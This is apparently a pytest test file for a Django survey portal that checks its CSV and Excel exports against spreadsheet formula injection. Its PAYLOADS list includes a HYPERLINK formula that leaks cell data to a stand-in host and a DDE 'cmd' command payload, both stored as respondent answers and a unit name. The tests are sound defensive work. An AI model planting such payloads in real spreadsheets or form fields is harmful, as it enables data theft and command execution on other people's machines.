"""Exports safe to open: no text a respondent or an official typed becomes a live formula in any file
the portal writes (raw CSV, raw xlsx, the report workbook and its raw sheet, the XLSForm export);
numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reports.raw_export import raw_export_write
from reports.selectors import working_snapshot
from reports.tests.factories_dashboard import dashboard_fixture  # noqa: F401 (fixture)
from reports.workbook import report_workbook_write
from surveys.models import Answer, Question, Response, Section
from surveys.xlsform_export import xlsform_export
from units.models import Unit
from units.spreadsheets import formula_like

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
]
UNIT_NAME = "=cmd|' /C calc'!A0 Xã A1"


@pytest.fixture
def hostile(dashboard_data, tree):
    """The 2026 campaign with a free-text answer per payload, a negative number, and hostile names."""
    questionnaire = dashboard_data.questionnaire
    section = Section.objects.filter(questionnaire=questionnaire).first()
    comment = Question.objects.create(questionnaire=questionnaire, section=section, code="GOPY", text="@SUM(A1) góp ý", type="text", order=50)
    number = Question.objects.create(questionnaire=questionnaire, section=section, code="SO", text="Số lần", type="number", order=51)
    responses = list(Response.objects.filter(campaign=dashboard_data.campaign, unit=tree["A1"]).order_by("pk")[: len(PAYLOADS)])
    common = {"campaign": dashboard_data.campaign, "unit": tree["A1"], "channel": "desk"}
    Answer.objects.bulk_create(
        [Answer(response=response, question=comment, text=text, **common) for response, text in zip(responses, PAYLOADS, strict=True)]
        + [Answer(response=responses[0], question=number, number=-2, **common)]
    )
    Unit.objects.filter(pk=tree["A1"].pk).update(name=UNIT_NAME)
    return dashboard_data


def _assert_no_live_formula(path: Path | io.BytesIO, *, allowed_formula: str | None = None) -> list:
    """Every cell of every sheet: no formula but the application's own; hostile texts are typed text
    with the quote prefix. Returns the cells seen."""
    book = load_workbook(path)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                seen.append(cell)
                if cell.data_type == "f":
                    assert allowed_formula and str(cell.value).startswith(allowed_formula), (sheet.title, cell.coordinate, cell.value)
                    continue
                if isinstance(cell.value, str) and formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return seen


def _texts(cells) -> set:
    """The texts of the cells, "\r" read back as "\n" (XML normalises line ends)."""
    return {cell.value.replace("\n", "\r") if cell.value.startswith("\n") else cell.value for cell in cells if cell.data_type == "s"}


def test_the_raw_xlsx_keeps_every_payload_as_text_and_numbers_as_numbers(hostile, tmp_path):
    out = tmp_path / "raw.xlsx"
    raw_export_write(campaign=hostile.campaign, out=out, fmt="xlsx")
    cells = _assert_no_live_formula(out)
    assert set(PAYLOADS) <= _texts(cells) and UNIT_NAME in _texts(cells)
    assert [cell.value for cell in cells if cell.data_type == "n" and cell.value == -2] == [-2]


def test_the_raw_csv_marks_every_payload_as_text_and_leaves_numbers_alone(hostile, tmp_path):
    out = tmp_path / "raw.csv"
    raw_export_write(campaign=hostile.campaign, out=out, fmt="csv")
    with open(out, encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert [field for field in fields if formula_like(field)] == []
    assert {f"'{payload}" for payload in PAYLOADS} | {f"'{UNIT_NAME}"} <= set(fields)
    assert "-2.0" in fields  # a negative number is a number, not quoted text


def test_the_report_workbook_and_its_raw_sheet_keep_only_their_own_formulas(hostile):
    buffer = io.BytesIO()
    report_workbook_write(campaign=hostile.campaign, snapshot=working_snapshot(hostile.campaign), out=buffer, include_raw=True)
    buffer.seek(0)
    cells = _assert_no_live_formula(buffer, allowed_formula="=SUM(")
    assert set(PAYLOADS) <= _texts(cells) and UNIT_NAME in _texts(cells)  # the raw sheet and the ranking
    assert any(cell.data_type == "f" for cell in cells)  # each criterion's total of shares is still a formula
    assert [cell.value for cell in cells if cell.data_type == "n" and cell.value == -2] == [-2]


def test_the_xlsform_export_keeps_hostile_labels_as_text(hostile):
    Question.objects.filter(questionnaire=hostile.questionnaire, code="TC1").update(text=PAYLOADS[0], text_en=PAYLOADS[1])
    cells = _assert_no_live_formula(io.BytesIO(xlsform_export(hostile.questionnaire)))
    assert {PAYLOADS[0], PAYLOADS[1], "@SUM(A1) góp ý"} <= _texts(cells)


@pytest.mark.parametrize("text", ["-2", "+84", "1,5", "Cán bộ nhiệt tình", "a=b", "", "2026-11-30"])
def test_ordinary_text_and_plain_numbers_are_not_taken_for_formulas(text):
    assert not formula_like(text)
